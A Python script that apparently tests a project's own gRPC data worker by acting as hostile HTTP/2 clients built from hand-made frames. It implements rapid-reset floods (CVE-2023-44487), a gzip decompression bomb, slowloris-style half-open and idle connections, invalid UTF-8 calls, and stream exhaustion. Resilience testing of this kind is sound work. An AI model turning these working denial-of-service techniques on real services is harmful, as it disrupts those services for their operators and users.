#!/usr/bin/env python3
"""Hostile HTTP/2 clients of a data worker, from hand-made frames (no HTTP/2 library needed).

Each mode attacks HOST:PORT and prints one line of what it did; the caller measures the worker.

  preface N S      N connections that send the 24-byte HTTP/2 preface and nothing else, held S s
  halfopen N S     N connections that open a call (HEADERS, no message) and never finish it, held S s
  reset N          one connection, N Handshake calls each reset at once (CVE-2023-44487 pattern)
  utf8 N           N Handshake calls whose token is invalid UTF-8, on one connection
  gzip KIB         one Handshake whose message is a gzip bomb of KIB KiB (inflates 1000x)
  idle N S         N silent TCP connections (no byte sent), reopened when closed, held S s
  streams N [ACK]  one connection, N calls opened at once and never finished: prints the
                   worker's SETTINGS_MAX_CONCURRENT_STREAMS and how many calls it took up
                   (ACK 0: the worker's settings are never acknowledged)
"""
import gzip
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_literal(name_index, value):  # literal without indexing, indexed name (4-bit prefix)
    v = value.encode()
    head = bytes([name_index]) if name_index < 15 else bytes([0x0F, name_index - 15])
    return head + bytes([len(v)]) + v


def headers(path, compressed=False):
    block = b"\x83\x86"  # :method POST, :scheme http
    block += hpack_literal(4, path) + hpack_literal(1, "worker")  # :path, :authority
    block += hpack_literal(31, "application/grpc")  # content-type
    block += b"\x00\x02te\x08trailers"
    if compressed:
        block += b"\x00\x0dgrpc-encoding\x04gzip"
    return block


HANDSHAKE = "/pperf.dataservice.DataService/Handshake"


def handshake_message(token=b"wrong"):
    body = b"\x08\x01" + b"\x1a" + bytes([len(token)]) + token  # schema_version 1, token
    return b"\x00" + struct.pack(">I", len(body)) + body


def connect(host, port):
    s = socket.create_connection((host, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def drain(s, stop):
    s.settimeout(0.5)
    got = 0
    while not stop.is_set():
        try:
            b = s.recv(1 << 16)
        except socket.timeout:
            continue
        except OSError:
            break
        if not b:
            break
        got += len(b)
    return got


def closed_by_peer(s):
    """Whether the worker closed `s` (what it sent before is read and dropped)."""
    s.setblocking(False)
    try:
        while s.recv(1 << 16):
            pass
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def hold(host, port, n, seconds, opening):
    socks, failed = [], 0
    for _ in range(n):
        try:
            s = connect(host, port)
            s.sendall(opening)
            socks.append(s)
        except OSError:
            failed += 1
    time.sleep(seconds)
    closed = sum(closed_by_peer(s) for s in socks)
    for s in socks:
        s.close()
    print(f"{len(socks)} connections held {seconds} s ({failed} failed to connect); {closed} closed by the worker")


def main():
    mode, host_port = sys.argv[1], sys.argv[2]
    host, port = host_port.rsplit(":", 1)
    port = int(port)
    args = [int(a) for a in sys.argv[3:]]
    settings = frame(4, 0, 0)
    if mode == "preface":
        hold(host, port, args[0], args[1], PREFACE)
    elif mode == "halfopen":
        hold(host, port, args[0], args[1], PREFACE + settings + frame(1, 0x4, 1, headers(HANDSHAKE)))
    elif mode == "idle":
        hold(host, port, args[0], args[1], b"")
    elif mode in ("reset", "utf8"):
        s = connect(host, port)
        stop = threading.Event()
        drainer = threading.Thread(target=drain, args=(s, stop))
        drainer.start()
        s.sendall(PREFACE + settings + frame(4, 1, 0))
        message = handshake_message(b"\xff\xfe" * 8 if mode == "utf8" else b"wrong")
        block = headers(HANDSHAKE)
        sent, chunk, start = 0, [], time.monotonic()
        try:
            for i in range(args[0]):
                sid = 2 * i + 1
                chunk.append(frame(1, 0x4, sid, block) + frame(0, 0x1, sid, message))
                if mode == "reset":
                    chunk.append(frame(3, 0, sid, struct.pack(">I", 8)))  # RST_STREAM CANCEL
                if len(chunk) >= 200:
                    s.sendall(b"".join(chunk))
                    sent += len(chunk) // (2 if mode == "reset" else 1)
                    chunk = []
            s.sendall(b"".join(chunk))
            sent = args[0]
        except OSError as e:
            print(f"connection ended by the worker after ~{sent} calls: {e}")
        time.sleep(2)
        stop.set()
        drainer.join()
        s.close()
        print(f"{sent} {mode} calls on one connection in {time.monotonic() - start:.1f} s")
    elif mode == "streams":
        s = connect(host, port)
        s.sendall(PREFACE + settings)
        time.sleep(0.3)  # the worker's settings arrive; acknowledge them (an attacker may not)
        s.sendall((frame(4, 1, 0) if len(args) < 2 or args[1] else b"") +
                  b"".join(frame(1, 0x4, 2 * i + 1, headers(HANDSHAKE)) for i in range(args[0])))
        s.settimeout(0.5)
        data, end, closed = b"", time.monotonic() + 3, False
        while time.monotonic() < end:
            try:
                chunk = s.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                closed = True
                break
            data += chunk
        s.close()
        advertised, refused, at, answered, goaway = None, 0, 0, set(), ""
        while at + 9 <= len(data):
            length, kind = int.from_bytes(data[at:at + 3], "big"), data[at + 3]
            payload = data[at + 9:at + 9 + length]
            if kind == 4:  # SETTINGS: 6-byte entries
                for k in range(0, len(payload) - 5, 6):
                    if int.from_bytes(payload[k:k + 2], "big") == 3:
                        advertised = int.from_bytes(payload[k + 2:k + 6], "big")
            elif kind == 3 and int.from_bytes(payload, "big") == 7:  # RST_STREAM REFUSED_STREAM
                refused += 1
            elif kind == 7:  # GOAWAY: last stream, error code, debug text
                goaway = f"; GOAWAY after stream {int.from_bytes(payload[:4], 'big') & 0x7FFFFFFF}: {payload[8:].decode(errors='replace')}"
            if kind in (1, 3):  # HEADERS or RST_STREAM: the worker took up the call
                answered.add(int.from_bytes(data[at + 5:at + 9], "big") & 0x7FFFFFFF)
            at += 9 + length
        print(f"max concurrent streams advertised: {advertised}; the worker took up {len(answered)} of {args[0]} calls "
              f"opened at once ({refused} refused with REFUSED_STREAM){goaway}"
              f"{'; the worker closed the connection' if closed else ''}")
    elif mode == "gzip":
        inner = b"\x08\x01" + b"\x22" + encode_varint(args[0] * 1000 * 1024) + b"\0" * (args[0] * 1000 * 1024)
        packed = gzip.compress(inner, 9)
        s = connect(host, port)
        s.sendall(PREFACE + settings + frame(4, 1, 0) + frame(1, 0x4, 1, headers(HANDSHAKE, compressed=True)))
        payload = b"\x01" + struct.pack(">I", len(packed)) + packed
        for i in range(0, len(payload), 16384):
            s.sendall(frame(0, 0x1 if i + 16384 >= len(payload) else 0, 1, payload[i:i + 16384]))
        s.settimeout(5)
        try:
            reply = s.recv(1 << 16)
        except OSError:
            reply = b""
        s.close()
        print(f"gzip request of {len(payload) // 1024} KiB (inflating to {len(inner) >> 20} MiB) sent; {len(reply)} bytes back")
    else:
        sys.exit(__doc__)


def encode_varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


if __name__ == "__main__":
    main()
